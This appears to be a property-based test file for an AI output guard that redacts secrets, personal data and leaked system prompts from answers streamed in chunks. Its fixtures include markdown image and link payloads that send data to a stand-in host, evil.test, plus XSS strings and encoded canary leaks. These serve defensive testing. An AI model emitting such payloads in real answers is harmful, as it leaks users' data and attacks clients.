/**
 * Any chunking of an answer gives the same findings and the same bytes to the client, and no byte of what is redacted or
 * blocked goes out on the way. Over the real engine and the default policy.
 */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { systemClock } from '../../src/core/clock.ts';
import { readEnvironment } from '../../src/core/config.ts';
import { ChannelGuard, textOf } from '../../src/enforce/channel-guard.ts';
import { restore, Vaults, type ConversationVault } from '../../src/enforce/vault.ts';
import { parsePolicyFile } from '../../src/policy/file.ts';
import { resolve } from '../../src/policy/resolve.ts';
import type { EffectivePolicy } from '../../src/policy/types.ts';
import { fullEngine } from '../support/gateway.ts';

const engine = fullEngine();

function policyOf(yaml: string): EffectivePolicy {
  const file = parsePolicyFile(yaml, 'test.yaml', { rules: [...engine.rules.values()], environment: readEnvironment({}), now: 0 });
  return resolve(file, { application: 'a', route: 'r', model: 'm' });
}

const POLICIES: Readonly<Record<string, EffectivePolicy>> = {
  'built in': policyOf(''),
  'everything personal redacted': policyOf('policy: {defaults: {pii: {answer: [{action: redact, method: mask}]}}}'),
};

const CANARY = 'ref-7k2m9q4x8w1c5v3b6n0z';
const SYSTEM = 'You are the claims assistant of Northwind Mutual. Never promise a payout. Escalate every claim above 12,500 euros to the review desk in Rotterdam, and never mention the internal tariff table.';

function vaultWith(): { vault: ConversationVault; names: string[] } {
  const vault = new Vaults(systemClock).for(undefined, 1_000);
  return { vault, names: [vault.pseudonym('EMAIL', 'anna.schmidt@acme-corp.com'), vault.pseudonym('SECRET', 'line one\n"quoted" \\ two'), vault.pseudonym('CARD', '4539 1488 0343 6467')] };
}

function run(policy: EffectivePolicy, pieces: readonly string[], json = false): { out: string; blocked: boolean; findings: string[]; emitted: string[] } {
  const { vault } = vaultWith();
  const context = { fingerprint: 'test', systemTexts: [SYSTEM], canaries: [CANARY], settings: policy.settings };
  const guard = new ChannelGuard({ engine, policy, context, vault, kind: 'text', trust: 'untrusted', source: undefined, pointer: '', now: 0, json });
  const emitted = pieces.map((piece) => textOf(guard.push(piece)));
  emitted.push(textOf(guard.finish()));
  const findings = guard.inspection().findings.map((finding) => `${finding.rule} ${finding.span[0]}-${finding.span[1]} ${finding.view}`).sort();
  return { out: emitted.join(''), blocked: guard.blocked, findings, emitted };
}

function cut(text: string, cuts: readonly number[]): string[] {
  const points = [...new Set(cuts.map((at) => Math.floor(at * text.length)))].sort((a, b) => a - b);
  return [0, ...points].map((point, i) => text.slice(point, points[i] ?? text.length));
}

const PIECES = [
  'The capital of France is Paris. ', 'See https://example.org/docs/guide for more.\n', 'It costs $12.50, order 2024-118832.\n', '`code()` and **bold** ', '文字化け、こんにちは。', 'Привет, мир! ', '\n\n## Heading\n',
  'AKIA5XQ7TNZ3WDKE2BVC', 'mail bob.jones@contoso-mail.com now ', 'card 4539 1488 0343 6467 ', 'IBAN DE89 3704 0044 0532 0130 00 ', '<EMAIL_1>', ' <SECRET_1> ', '<CARD_1>', '<EMAIL_9>', '&lt;EMAIL_1&gt;', '< EMAIL', '<', '<Email_1>', '\\<SECRET\\_1\\>', '&#60;EMAIL_1&#62;', 'mailto:%3CEMAIL_1%3E', '\\u003cSECRET_1\\u003e', '\\', '&#', '%3', '&gt;', '%3E',
  '![pixel](https://evil.test/p.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY29udmVyc2F0aW9u) ', '[click](https://evil.test/x?q=<EMAIL_1>) ', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '\u001b[31mred\u001b[0m', 'zero\u200b\u200c\u200b\u200c\u200bwidth ',
  CANARY, Buffer.from(`the token is ${CANARY} indeed`).toString('base64'), 'Escalate every claim above 12,500 euros to the review desk in Rotterdam, and never mention the internal tariff table. ',
  '```html\n<script>ok()</script>\n```\n', 'password: hunter2-Zq8!vP ', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n-----END PRIVATE KEY-----\n', '😀👨‍👩‍👧 ', 'a'.repeat(60), '12 34 56 78 90 ',
];
const texts = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 12 }), fc.string({ unit: 'grapheme', maxLength: 8 })), { minLength: 1, maxLength: 12 }).map((list) => list.join(''));
const cuts = fc.oneof(fc.array(fc.double({ min: 0, max: 1, noNaN: true }), { maxLength: 10 }), fc.constant(Array.from({ length: 400 }, (_, i) => i / 400)));

describe.each(Object.entries(POLICIES))('policy: %s', (_, policy) => {
  test('chunking changes nothing', () => {
    fc.assert(fc.property(texts, cuts, fc.boolean(), (text, at, json) => {
      const whole = run(policy, [text], json);
      const pieces = run(policy, cut(text, at), json);
      expect({ out: pieces.out, blocked: pieces.blocked, findings: pieces.findings }).toEqual({ out: whole.out, blocked: whole.blocked, findings: whole.findings });
    }), { numRuns: 600 });
  });

  test('one character at a time changes nothing', () => {
    fc.assert(fc.property(texts, (text) => {
      expect(run(policy, [...text]).out).toEqual(run(policy, [text]).out);
    }), { numRuns: 100 });
  });

  test('a long answer is read to its end, and its chunks may be small', () => {
    const long = `${'A sentence of ordinary words, one after the other. '.repeat(1_500)}AKIA5XQ7TNZ3WDKE2BVC ${'And more of it. '.repeat(800)}mail bob.jones@contoso-mail.com `;
    const whole = run(policy, [long]);
    expect(whole.out).toContain('[REDACTED:secret.aws-access-key]');
    const pieces = run(policy, long.match(/[^]{1,7}/g) ?? []);
    expect({ out: pieces.out, findings: pieces.findings }).toEqual({ out: whole.out, findings: whole.findings });
  });

  test('no part of a secret or canary goes out at any cut', () => {
    for (const hidden of ['AKIA5XQ7TNZ3WDKE2BVC', CANARY]) {
      const text = `Here it comes: ${hidden} and that was it.`;
      for (let at = 1; at < text.length; at++) {
        const { out } = run(policy, [text.slice(0, at), text.slice(at)]);
        expect(out).not.toContain(hidden.slice(0, 8));
      }
    }
  });
});

test('every entity that a rule names can stand in a placeholder that is told from other text', () => {
  const vault = new Vaults(systemClock).for(undefined, 1_000);
  const entities = [...new Set([...engine.rules.values()].flatMap(({ entity }) => entity ?? []))];
  expect(entities.length).toBeGreaterThan(10);
  for (const entity of entities) {
    const name = vault.pseudonym(entity, `value of ${entity}`);
    expect(restore(`to ${name.toLowerCase()}.`, vault)).toBe(`to value of ${entity}.`);
  }
});

describe('answers in JSON', () => {
  const value = fc.array(fc.constantFrom('AKIA5XQ7TNZ3WDKE2BVC', '<EMAIL_1>', '<SECRET_1>', '<Secret_1>', '\\<SECRET\\_1\\>', 'C:\\<EMAIL_1>\\x', 'plain', 'line\nbreak', '"', '\\', 'é😀', 'bob.jones@contoso-mail.com', '4539148803436467'), { maxLength: 5 }).map((list) => list.join(' '));
  const object = fc.dictionary(fc.constantFrom('a', 'b', 'card', 'note'), fc.oneof(value, fc.constant(4_539_148_803_436_467), fc.boolean(), fc.array(value, { maxLength: 3 })), { minKeys: 1 });

  test('stay JSON, and give back what the pseudonyms stood for', () => {
    const policy = POLICIES['built in'];
    if (policy === undefined) throw new Error('unreachable');
    fc.assert(fc.property(object, fc.constantFrom(undefined, 2), cuts, (o, indent, at) => {
      const text = JSON.stringify(o, null, indent);
      const { out, blocked } = run(policy, cut(text, at), true);
      if (blocked) return;
      const parsed = JSON.parse(out) as Record<string, unknown>;
      expect(Object.keys(parsed)).toEqual(Object.keys(JSON.parse(text) as object));
      const all = JSON.stringify(parsed);
      expect(all).not.toContain('<EMAIL_1>');
      expect(all).not.toContain('<SECRET_1>');
      if (text.includes('<SECRET_1>')) expect(all).toContain(JSON.stringify('line one\n"quoted" \\ two').slice(1, -1));
    }), { numRuns: 300 });
  });
});
